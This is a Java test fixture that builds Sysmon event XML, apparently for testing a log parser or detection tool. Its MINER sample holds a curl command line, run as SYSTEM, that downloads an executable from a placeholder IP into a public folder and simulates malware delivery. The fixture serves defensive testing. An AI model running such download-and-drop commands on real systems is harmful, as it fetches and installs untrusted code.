package io.tallyman.source.sysmon;

import java.util.Map;
import java.util.TreeMap;

/** Sysmon's events as XML, written for a test. */
final class Written {

    static final Map<String, String> MINER = Map.of(
            "UtcTime", "2026-05-01 10:00:00.123",
            "ProcessGuid", "{11111111-2222-3333-4444-555555555555}",
            "ProcessId", "4321",
            "Image", "C:\\Windows\\System32\\curl.exe",
            "CommandLine", "curl.exe  -o &quot;C:\\Users\\Public\\a b.exe&quot; http://203.0.113.7/x?a=1&amp;b=2",
            "CurrentDirectory", "C:\\Windows\\system32\\",
            "User", "NT AUTHORITY\\SYSTEM",
            "ParentProcessId", "4000",
            "ParentImage", "C:\\Program Files\\Amazon\\EC2Launch\\EC2Launch.exe",
            "ParentCommandLine", "EC2Launch.exe run");

    static final Map<String, String> CONNECTION = Map.of(
            "UtcTime", "2026-05-01 10:00:01.500",
            "ProcessId", "4321",
            "Image", "C:\\Windows\\System32\\curl.exe",
            "Protocol", "TCP",
            "Initiated", "true",
            "SourceIp", "10.0.0.5",
            "SourcePort", "50123",
            "DestinationIp", "203.0.113.7",
            "DestinationHostname", "pool.bank.example",
            "DestinationPort", "80");

    static final Map<String, String> LOOK_UP = Map.of(
            "UtcTime", "2026-05-01 10:00:01.400",
            "ProcessId", "4321",
            "QueryName", "Pool.Example.ORG.",
            "QueryStatus", "0",
            "QueryResults", "type:  5 edge.example.net;::ffff:203.0.113.7;2001:DB8::7;",
            "Image", "C:\\Windows\\System32\\curl.exe");

    private Written() {}

    static String event(int id, Map<String, String> data) {
        return event("Microsoft-Windows-Sysmon", id, data);
    }

    static String event(String provider, int id, Map<String, String> data) {
        var text = new StringBuilder("""
                <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>\
                <Provider Name='%s' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>%d</EventID>\
                <TimeCreated SystemTime='2026-05-01T10:00:02.1234567Z'/><Execution ProcessID='1000' ThreadID='2000'/>\
                <Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WIN-7.Corp.Example</Computer></System>\
                <EventData>""".formatted(provider, id));
        new TreeMap<>(data).forEach((name, value) -> text.append("<Data Name='%s'>%s</Data>".formatted(name, value)));
        return text.append("</EventData></Event>").toString();
    }

    static Map<String, String> with(Map<String, String> data, String name, String value) {
        var changed = new TreeMap<>(data);
        changed.put(name, value);
        return changed;
    }
}
